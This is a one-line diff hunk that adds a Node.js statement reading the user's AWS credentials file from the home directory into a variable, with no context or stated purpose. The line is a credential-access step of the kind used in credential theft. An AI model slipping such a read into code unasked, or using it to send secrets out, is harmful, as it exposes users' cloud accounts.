@@ -1,0 +1,1 @@
+const creds = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');
